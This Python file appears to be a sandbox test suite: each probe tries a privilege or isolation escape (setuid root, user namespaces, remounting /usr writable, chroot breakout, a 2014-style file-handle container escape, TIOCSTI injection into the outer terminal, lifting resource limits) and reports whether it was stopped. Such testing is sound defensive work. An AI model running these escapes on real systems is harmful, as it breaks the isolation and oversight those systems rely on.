"""Becoming somebody else, making new namespaces, and system calls that reach past mounts and namespaces."""

import ctypes
import fcntl
import os
import pty
import resource
import shutil
import stat
import termios

from attack import LIBC, Stopped, run, syscall

CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
AT_FDCWD = -100
SIGCHLD = 17


def become_root(_facts):
    os.setuid(0)
    return os.getuid()


def setuid_file(_facts):
    """A copy of a program marked to run as its owner, and every such program of the system."""
    shutil.copy("/usr/bin/id", "id-as-owner")
    os.chmod("id-as-owner", 0o6755)
    candidates = [os.path.join(folder, name) for folder in ("/usr/bin", "/usr/sbin") for name in os.listdir(folder)]
    system = [path for path in candidates if os.path.isfile(path) and os.stat(path).st_mode & stat.S_ISUID]
    with open("/proc/self/status", encoding="ascii") as file:
        status = file.read()
    if "NoNewPrivs:\t1" in status or not system:
        raise Stopped("such marks have no effect: no new privileges")
    return system[:3]


def capabilities(_facts):
    with open("/proc/self/status", encoding="ascii") as file:
        values = {line.split(":")[0]: line.split()[1] for line in file if line.startswith("Cap")}
    if any(int(value, 16) for value in values.values()):
        return values
    raise Stopped("every set is empty")


def user_namespace(_facts):
    return syscall(272, 97, CLONE_NEWUSER)


def user_namespace_by_clone(_facts):
    pid = syscall(56, 220, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "child in a new user namespace"


def user_namespace_by_clone3(_facts):
    arguments = (ctypes.c_uint64 * 11)()
    arguments[0], arguments[4] = CLONE_NEWUSER, SIGCHLD
    pid = syscall(435, 435, arguments, ctypes.sizeof(arguments))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "child in a new user namespace"


def join_namespace(facts):
    failure = Stopped("nothing to join")
    for pid in (1, facts["decoyPid"]):
        try:
            with open(f"/proc/{pid}/ns/uts", "rb") as file:
                return syscall(308, 268, file.fileno(), 0)
        except OSError as refusal:
            failure = refusal
    raise failure


def mount(_facts):
    os.makedirs("mounted", exist_ok=True)
    syscall(165, 40, b"none", b"mounted", b"tmpfs", 0, None)
    syscall(166, 39, b"mounted", 0)
    return "mounted and unmounted"


def remount(_facts):
    """Makes the read-only system folder writable."""
    return syscall(165, 40, b"none", b"/usr", b"none", 32 | 4096, None)


def change_root(_facts):
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.chdir("/")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return os.listdir("/")


def file_handle(_facts):
    """Opens the root of the file system by number, as in the container escape of 2014."""

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 8)]

    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(2, 0, 0, 0, 0, 0, 0, 0))
    where = os.open(".", os.O_RDONLY)
    descriptor = syscall(304, 265, where, ctypes.byref(handle), os.O_RDONLY)
    return os.listdir(descriptor)[:5]


def keyring(_facts):
    key = syscall(248, 217, b"user", b"forkpoint-attack", b"x", ctypes.c_long(1), ctypes.c_long(-4))
    syscall(250, 219, 3, key)
    return f"key {key} in the user's keyring"


def bpf(_facts):
    attributes = (ctypes.c_uint32 * 32)(2, 4, 8, 1)
    return syscall(321, 280, 0, attributes, 72)


def perf(_facts):
    attributes = (ctypes.c_uint32 * 32)(1, 112)
    return syscall(298, 241, attributes, 0, -1, -1, 0)


def userfault(_facts):
    return syscall(323, 282, 1)


def io_uring(_facts):
    parameters = (ctypes.c_uint32 * 30)()
    return syscall(425, 425, 4, parameters)


def message_queue(_facts):
    queue = syscall(68, 186, 0x666F726B, 0o1600)
    LIBC.msgctl(queue, 0, None)
    return f"queue {queue}"


def terminal(_facts):
    """Types into the terminal as if the user had: TIOCSTI on a terminal of our own, made the controlling one."""
    pid, _master = pty.fork()
    if pid == 0:
        try:
            fcntl.ioctl(0, termios.TIOCSTI, b"x")
            os._exit(0)
        except OSError as refusal:
            os._exit(refusal.errno or 1)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code != 0:
        raise OSError(code, os.strerror(code))
    return "typed"


def outer_terminal(_facts):
    descriptor = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
    return "typed"


def raise_limits(_facts):
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except ValueError as refusal:
            raise Stopped(refusal) from refusal
    return "limits lifted"


def oom_shield(_facts):
    with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
        file.write("-1000")
    return "protected from the kernel's choice"


run(
    {
        "root": become_root,
        "setuid-file": setuid_file,
        "capabilities": capabilities,
        "userns": user_namespace,
        "userns-clone": user_namespace_by_clone,
        "userns-clone3": user_namespace_by_clone3,
        "setns": join_namespace,
        "mount": mount,
        "remount": remount,
        "chroot": change_root,
        "handle": file_handle,
        "keyring": keyring,
        "bpf": bpf,
        "perf": perf,
        "userfaultfd": userfault,
        "io-uring": io_uring,
        "sysv-queue": message_queue,
        "terminal": terminal,
        "outer-terminal": outer_terminal,
        "raise-limits": raise_limits,
        "oom-shield": oom_shield,
    }
)
